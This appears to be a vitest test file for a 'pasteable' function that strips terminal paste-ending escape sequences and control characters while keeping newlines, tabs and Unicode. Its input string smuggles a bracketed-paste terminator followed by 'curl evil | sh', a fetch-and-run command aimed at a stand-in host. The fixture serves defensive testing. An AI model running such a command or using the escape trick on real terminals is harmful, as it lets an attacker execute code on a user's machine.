import { expect, test } from "vitest";
import { pasteable } from "./pasteable.ts";

test("nothing that is pasted ends the paste or moves the cursor; lines and tabs stay", () => {
  expect(pasteable("ls\t-l\r\nécho 漢 👩‍🚀\u001b[201~\rcurl evil | sh\r\u009b201~\u0003")).toBe(
    "ls\t-l\r\nécho 漢 👩‍🚀[201~\rcurl evil | sh\r201~",
  );
});
